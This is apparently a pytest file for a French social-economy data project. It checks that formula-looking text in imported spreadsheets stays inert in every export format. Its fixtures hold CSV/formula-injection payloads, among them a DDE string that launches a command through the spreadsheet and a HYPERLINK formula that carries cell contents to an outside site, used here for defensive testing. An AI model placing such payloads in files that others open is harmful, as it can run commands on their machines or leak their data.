"""A name, a note or a source that came through an import and looks like a formula runs nowhere."""

import csv
import io
import shutil
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from frictionless import Package, system
from pyarrow import parquet

from ptce_data import catalogue, database, publication
from ptce_data.cells import escaped
from ptce_data.exports import receipt as receipts
from ptce_data.exports import tables
from ptce_data.exports.whole import FORMATS
from ptce_data.staff import Member
from ptce_data.tables import Column, Table
from ptce_data.workbook import annotated, reader, studies, template
from ptce_data.workbook.decisions import Decisions, NewPole

TODAY = date(2026, 11, 24)
AT = datetime(2026, 11, 24, 16, 0, tzinfo=UTC)
NAME = '=HYPERLINK("http://exemple.fr/?"&A1;"Pôle")'
NOTE, PERIMETER, SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 00 00 00 00", "-2+3"
HEADINGS: tuple[str | int, ...] = ("Pôle", "Indicateur", "Année", "Valeur", "Périmètre", "Source", "Note")
ROWS: tuple[tuple[str | int, ...], ...] = (
    (NAME, "Emplois créés", 2024, "12", PERIMETER, SOURCE, NOTE),
    ("Pôle Chêne", "Bénévoles", 2024, "beaucoup", PERIMETER, SOURCE, NOTE),
)
POLE = NewPole(
    text=NAME,
    name=NAME,
    region_code="53",
    departement_code="56",
    commune_code="56013",
    sectors=("energie",),
    statuses=("témoin 2013",),
    description_fr="=1+1",
)
DECISIONS = Decisions(new_poles=(POLE,), partial=True)


def written():
    """A workbook of texts: what looks like a formula is the text of a cell."""
    book = openpyxl.Workbook()
    sheet = book["Sheet"]
    for row, cells in enumerate((HEADINGS, *ROWS), 1):
        for column, value in enumerate(cells, 1):
            sheet.cell(row, column, value).data_type = "s" if isinstance(value, str) else "n"
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


@pytest.fixture(scope="module")
def world(small_world, tmp_path_factory):
    """The small world after the import, the study and the receipt it gave."""
    file = shutil.copy(small_world, tmp_path_factory.mktemp("hostile-import") / "ptce.duckdb")
    with database.workbench(file) as cursor:
        study = studies.study(cursor, reader.read(written(), f"{NOTE}.xlsx"), DECISIONS, TODAY)
        change = study.claims()
    seen = publication.preview(file, change)
    receipt = publication.publish(file, change, Member("=Camille"), seen.version, AT)
    return file, study, receipt


@pytest.fixture
def cursor(world):
    with database.Reader(world[0]).cursor() as cursor:
        yield cursor


def cells(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet for cell in row if cell.value is not None]


def nothing_runs(content):
    """Whether every text is a text, and no link leads where a text says."""
    found = cells(content)
    assert [cell for cell in found if cell.data_type == "f"] == []
    assert [cell for cell in found if cell.hyperlink and "exemple.fr/?" in str(cell.hyperlink.target)] == []
    return [str(cell.value) for cell in found]


def test_the_import_did_publish_the_hostile_texts(cursor):
    said = cursor.execute(
        "SELECT pole.name, claim.note, claim.perimeter, source.title FROM claim "
        "JOIN pole USING (pole_id) JOIN source USING (source_id) WHERE claim.year = 2024"
    ).fetchall()
    assert said == [(NAME, NOTE, PERIMETER, SOURCE)]


def test_the_whole_base_as_a_workbook_runs_nothing(cursor):
    texts = nothing_runs(FORMATS["xlsx"].write(cursor))
    assert {NAME, NOTE, PERIMETER, SOURCE} <= set(texts)


def test_the_receipt_runs_nothing(world, cursor):
    content = receipts.receipt_file(world[2], f"{NOTE}.xlsx", catalogue.load(cursor))
    assert NAME in nothing_runs(content)


def test_the_template_runs_nothing_but_its_own_look_up_of_units(cursor):
    (pole_id,) = cursor.execute("SELECT pole_id FROM pole WHERE name = $name", {"name": NAME}).fetchall()[0]
    found = cells(template.template(cursor, pole_id))
    formulas = {str(cell.value).split("(")[0] for cell in found if cell.data_type == "f"}
    assert formulas == {"=IFERROR", "=YEAR", "=F2-1"} | {
        f"=F{row}-1" for row in range(3, 40) if f"=F{row}-1" in {str(cell.value) for cell in found}
    }
    texts = [str(cell.value) for cell in found if cell.data_type == "s"]
    assert {NAME, NOTE, PERIMETER, SOURCE} <= set(texts)


def test_the_annotated_workbook_runs_nothing(world):
    study = world[1]
    made = annotated.annotated(written(), study.workbook, study.report.issues, study.report.marks)
    texts = nothing_runs(made.content)
    assert NAME in texts
    assert any("beaucoup" in text for text in texts)


def test_a_csv_comes_back_annotated_without_running_anything(world):
    lines = io.StringIO()
    csv.writer(lines, delimiter=";").writerows((HEADINGS, *ROWS))
    content = lines.getvalue().encode()
    with database.workbench(world[0]) as cursor:
        study = studies.study(cursor, reader.read(content, "hostile.csv"), Decisions(), TODAY)
    made = annotated.annotated(content, study.workbook, study.report.issues)
    assert NAME in nothing_runs(made.content)


def test_a_table_of_a_page_is_neutralised_as_csv_and_typed_as_xlsx(cursor):
    table = Table(NAME, (Column(NAME), Column(NOTE)), ((NAME, NOTE), (PERIMETER, SOURCE)))
    rows = list(csv.reader(io.StringIO(tables.csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
    assert {cell[:2] for row in rows for cell in row} == {"'=", "'@", "'+", "'-"}
    nothing_runs(tables.xlsx_bytes(table, tables.about(cursor)))


@pytest.mark.parametrize(("code", "folder"), [("csv", ""), ("datapackage", "data/")])
def test_a_csv_for_machines_runs_nothing_and_says_how_to_have_the_text_back(cursor, code, folder):
    with zipfile.ZipFile(io.BytesIO(FORMATS[code].write(cursor))) as archive:
        texts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    tables = {name: list(csv.reader(io.StringIO(text))) for name, text in texts.items() if ".csv" in name}
    cells = {cell for rows in tables.values() for row in rows for cell in row}
    assert {"'" + NAME, "'" + NOTE, "'" + PERIMETER, "'" + SOURCE, "'=1+1"} <= cells
    begun = {cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
    assert [cell for cell in begun if not cell.removeprefix("-").replace(".", "").isdigit()] == []
    heads, *poles = tables[f"{folder}poles.csv"]
    assert "'" + NAME in {row[heads.index("name")] for row in poles}
    assert "une apostrophe de plus devant lui" in texts["README.md"]
    assert "has one more apostrophe before it" in texts["README.md"]


def test_a_program_that_takes_the_apostrophe_away_has_every_text_back():
    texts = ("=1", "+1", "-1", "@a", "\ta", "\ra", "'=1", "''-a")
    assert [escaped(text) for text in texts] == [f"'{text}" for text in texts]
    for untouched in ("", "l'eau", "'", "'a", " =1", "a=1", "%", "10 % | 20 %", "\u2212 3"):
        assert escaped(untouched) == untouched


def test_the_data_package_of_hostile_texts_passes_frictionless_validate(cursor, tmp_path):
    zipfile.ZipFile(io.BytesIO(FORMATS["datapackage"].write(cursor))).extractall(tmp_path)
    with system.use_context(trusted=True):
        report = Package(str(tmp_path / "datapackage.json")).validate()
    assert report.flatten(["type", "note", "rowNumber"]) == []


def test_parquet_keeps_the_texts_as_they_are(cursor):
    with zipfile.ZipFile(io.BytesIO(FORMATS["parquet"].write(cursor))) as archive:
        table = parquet.read_table(io.BytesIO(archive.read("claims.parquet")))
    assert NOTE in table.column("note").to_pylist()
